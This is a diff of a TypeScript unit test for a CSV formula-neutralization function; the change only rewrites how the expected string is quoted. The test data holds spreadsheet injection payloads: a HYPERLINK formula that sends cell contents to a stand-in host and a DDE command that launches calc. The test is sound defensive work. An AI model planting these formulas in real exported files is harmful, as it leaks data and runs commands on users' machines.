@@ -12,7 +12,7 @@ const neutralize = async (text: string, chunkSize = 3) => {
 describe('CSV formula neutralization', () => {
   it('prefixes every cell that a spreadsheet would run as a formula, across chunk boundaries', async () => {
     const input = 'name,note\r\n=HYPERLINK("http://x.test?"&A1),+cmd|\'/C calc\'!A0\n@SUM(1+1),-2\n\tx,"=1+1"\n"\r=2",ok;=3\n';
-    const expected = 'name,note\r\n\'=HYPERLINK("http://x.test?"&A1),\'+cmd|\'/C calc\'!A0\n\'@SUM(1+1),\'-2\n\'\tx,"\'=1+1"\n"\'\r=2",ok;\'=3\n';
+    const expected = "name,note\r\n'=HYPERLINK(\"http://x.test?\"&A1),'+cmd|'/C calc'!A0\n'@SUM(1+1),'-2\n'\tx,\"'=1+1\"\n\"'\r=2\",ok;'=3\n";
     for (const size of [1, 2, 3, 7, 1000]) expect(await neutralize(input, size)).toBe(expected);
   });
 
